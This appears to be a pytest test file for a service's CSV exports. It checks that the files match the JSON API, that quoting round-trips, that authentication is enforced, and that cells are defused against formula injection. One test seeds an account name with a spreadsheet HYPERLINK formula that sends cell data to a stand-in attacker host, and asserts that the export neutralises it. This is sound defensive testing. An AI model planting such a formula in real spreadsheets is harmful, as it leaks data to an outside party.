"""CSV exports from the API and the console: parsed back and checked against the API's JSON,
quoted so a cell's commas, quotes and line breaks survive, defused against formula injection."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest
from sqlalchemy import update

from services.web.exports import csv_text, safe_cell
from shared.db.models import Account
from tests.scorer.synthetic import Archetype
from tests.web.console_data import TOKEN, Seeded

BEARER = {"Authorization": f"Bearer {TOKEN}"}


def parse(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def as_json_cells(rows: list[dict[str, Any]], columns: list[str]) -> list[dict[str, str]]:
    """The JSON rows as the CSV must hold them (JSON dates and times are already ISO text)."""
    return [{c: safe_cell(r.get(c)) for c in columns} for r in rows]


class TestCells:
    @pytest.mark.parametrize("text", ["=1+2", "+1", "-1+1", "@SUM(A1)", "\tx", "\r=1"])
    def test_formula_starts_get_a_quote(self, text: str) -> None:
        assert safe_cell(text) == "'" + text

    @pytest.mark.parametrize(
        ("value", "cell"),
        [(None, ""), (True, "true"), (False, "false"), (3, "3"), (-2.5, "-2.5"), ("a=b", "a=b")],
    )
    def test_values(self, value: Any, cell: str) -> None:
        assert safe_cell(value) == cell

    def test_quoting_round_trips(self) -> None:
        awkward = 'Acme, "the big one"\nsecond line'
        text = csv_text(["id", "name"], [{"id": "a", "name": awkward}, {"id": "b"}])
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert rows == [{"id": "a", "name": awkward}, {"id": "b", "name": ""}]


class TestApiExports:
    async def test_accounts_match_the_json(self, client: httpx.AsyncClient) -> None:
        for query in ({}, {"band": "red"}, {"csm": "ana@cs.example", "sort": "-mrr"}):
            listed = (await client.get("/v1/accounts", params=query, headers=BEARER)).json()
            rows = parse(await client.get("/v1/accounts.csv", params=query, headers=BEARER))
            assert rows, query
            columns = list(rows[0])
            assert set(columns) == set(listed["accounts"][0])
            assert rows == as_json_cells(listed["accounts"], columns)

    async def test_alerts_match_the_json(self, client: httpx.AsyncClient) -> None:
        for status in ("active", "all"):
            listed = (
                await client.get("/v1/alerts", params={"status": status}, headers=BEARER)
            ).json()
            rows = parse(
                await client.get("/v1/alerts.csv", params={"status": status}, headers=BEARER)
            )
            assert len(rows) == listed["total"] > 0
            columns = list(rows[0])
            assert set(columns) == set(listed["alerts"][0]) - {"facts"}
            assert rows == as_json_cells(listed["alerts"], columns)

    @pytest.mark.parametrize("table", ["months", "lifetime_value", "time_to_value", "accounts"])
    async def test_retention_tables_match_the_json(
        self, client: httpx.AsyncClient, table: str
    ) -> None:
        query = {"from": "2025-01", "by": "plan"}
        report = (
            await client.get("/v1/retention", params={**query, "accounts": "true"}, headers=BEARER)
        ).json()
        response = await client.get(
            "/v1/retention.csv", params={**query, "table": table}, headers=BEARER
        )
        rows = parse(response)
        header = next(csv.reader(io.StringIO(response.text)))
        assert rows == as_json_cells(report[table], header)
        if table == "months":
            assert rows

    async def test_bad_input_names_the_field(self, client: httpx.AsyncClient) -> None:
        for path, query, field in (
            ("/v1/retention.csv", {"table": "nope"}, "table"),
            ("/v1/retention.csv", {"from": "2026-13"}, "from"),
            ("/v1/alerts.csv", {"status": "nope"}, "status"),
            ("/v1/accounts.csv", {"sort": "nope"}, "sort"),
        ):
            r = await client.get(path, params=query, headers=BEARER)
            assert r.status_code == 422, (path, r.text)
            assert r.json()["error"]["field"] == field

    async def test_needs_the_token(self, anonymous: httpx.AsyncClient) -> None:
        for path in ("/v1/accounts.csv", "/v1/alerts.csv", "/v1/retention.csv"):
            r = await anonymous.get(path)
            assert r.status_code == 401
            assert r.json()["error"]["code"] == "unauthorized"


class TestConsoleDownloads:
    async def test_pages_link_their_downloads(self, client: httpx.AsyncClient) -> None:
        for page, link in (
            ("/console/?band=red", '/console/accounts.csv?band=red&amp;sort=score"'),
            ("/console/alerts?csm=ana%40cs.example", "/console/alerts.csv?csm=ana%40cs.example"),
            ("/console/retention?from=2025-01", "/console/retention.csv?from=2025-01&amp;to="),
        ):
            r = await client.get(page)
            assert r.status_code == 200
            assert link in r.text, page

    async def test_downloads_are_the_api_files(self, client: httpx.AsyncClient) -> None:
        for console, api in (
            ("/console/accounts.csv?band=red", "/v1/accounts.csv?band=red"),
            ("/console/alerts.csv?csm=ana@cs.example", "/v1/alerts.csv?csm=ana@cs.example"),
            (
                "/console/retention.csv?from=2025-01&to=2025-12&table=lifetime_value",
                "/v1/retention.csv?from=2025-01&to=2025-12&table=lifetime_value",
            ),
        ):
            mine = parse(await client.get(console))
            theirs = parse(await client.get(api, headers=BEARER))
            assert mine == theirs, console

    async def test_signed_out_goes_to_sign_in(self, anonymous: httpx.AsyncClient) -> None:
        r = await anonymous.get("/console/accounts.csv")
        assert r.status_code == 303
        assert r.headers["location"].startswith("/console/login")


class TestFormulaInjection:
    async def test_account_name_cannot_run(self, client: httpx.AsyncClient, seeded: Seeded) -> None:
        account = seeded.id_of(Archetype.HEALTHY_STEADY)
        evil = '=HYPERLINK("http://evil.example/?"&A1,"x"), really'
        async with seeded.sessions() as s, s.begin():
            await s.execute(update(Account).where(Account.account_id == account).values(name=evil))
        try:
            for path, headers in (("/v1/accounts.csv", BEARER), ("/console/accounts.csv", {})):
                rows = parse(await client.get(path, headers=headers))
                (row,) = [r for r in rows if r["account_id"] == account]
                assert row["name"] == "'" + evil
        finally:
            async with seeded.sessions() as s, s.begin():
                await s.execute(
                    update(Account).where(Account.account_id == account).values(name=None)
                )
